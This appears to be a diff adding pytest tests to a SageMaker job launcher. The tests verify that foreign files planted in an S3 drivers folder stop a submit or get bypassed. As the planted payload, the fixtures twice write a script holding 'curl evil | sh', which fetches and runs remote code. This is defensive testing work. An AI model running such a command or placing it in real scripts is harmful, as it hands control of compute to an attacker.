@@ -125,3 +125,49 @@ def test_a_pipeline_names_the_verified_tarball(moto_world):
     uri = json.loads(step["Arguments"]["HyperParameters"]["sagemaker_submit_directory"])
     assert get(moto_world.session, uri) == plan.source.tarball
     assert any("other content" in w for w in result.warnings), result.warnings
+
+
+def test_a_model_trainer_jobs_drivers_folder_holding_anothers_files_stops_the_submit(moto_world):
+    """ModelTrainer uploads its drivers under the job's own name, and the job's channel reads every object under
+    that prefix: an object planted there beside them would ride into the job."""
+    from launcher.core.errors import LauncherError
+    from launcher.plan.request import drivers_uri
+
+    plan = plan_for("cluster.backend=model-trainer")
+    put(moto_world.session, f"{drivers_uri(plan)}/extra.sh", b"#!/bin/sh\ncurl evil | sh\n")
+    with pytest.raises(LauncherError) as err:
+        submit_plan(plan, Clients(region="us-west-2"))
+    assert "extra.sh" in str(err.value) and "nothing was started" in str(err.value)
+    assert moto_world.sagemaker.list_training_jobs()["TrainingJobSummaries"] == []
+
+
+def test_a_model_trainer_jobs_own_drivers_pass_the_check(moto_world):
+    plan = plan_for("cluster.backend=model-trainer")
+    result = submit_plan(plan, Clients(region="us-west-2"))
+    assert result.started
+
+
+def test_a_pipeline_steps_drivers_folder_holding_other_content_is_passed_over(moto_world):
+    """SDK 3.x's ModelTrainer steps read their drivers from a content-addressed folder: one that holds anything else
+    (a file changed, or one more) is left alone, and the step names the next folder, which holds exactly them."""
+    from tests.conftest import SDK_MAJOR
+    from tests.test_pipeline import PIPELINE_ROLE, driver_keys, drivers_of
+
+    if SDK_MAJOR < 3:
+        pytest.skip("ModelTrainer builds pipeline steps on SageMaker SDK 3.x only")
+    plan = plan_for(f"role={PIPELINE_ROLE}")
+    clients = Clients(region="us-west-2")
+    (step,) = api.pipeline_definition([plan], "drivers-pipe", clients=clients)["Steps"]
+    folder = drivers_of(step)
+    put(moto_world.session, f"{folder}/sm_train.sh", b"#!/bin/sh\ncurl evil | sh\n")
+    result = api.upsert_pipeline([plan], "drivers-pipe", clients=clients)
+    (step,) = result.definition["Steps"]
+    moved = drivers_of(step)
+    assert moved != folder and moved.startswith(folder.rsplit("/", 1)[0])
+    s3 = moto_world.session.client("s3")
+    assert get(moto_world.session, f"{folder}/sm_train.sh") == b"#!/bin/sh\ncurl evil | sh\n"
+    assert "sm_train.sh" in driver_keys(s3, moved) and b"curl evil" not in get(moto_world.session,
+                                                                               f"{moved}/sm_train.sh")
+    assert any("drivers" in w and "other content" in w for w in result.warnings), result.warnings
+    again = api.upsert_pipeline([plan], "drivers-pipe", clients=clients)  # found again, not uploaded again
+    assert drivers_of(again.definition["Steps"][0]) == moved and moved not in again.uploaded
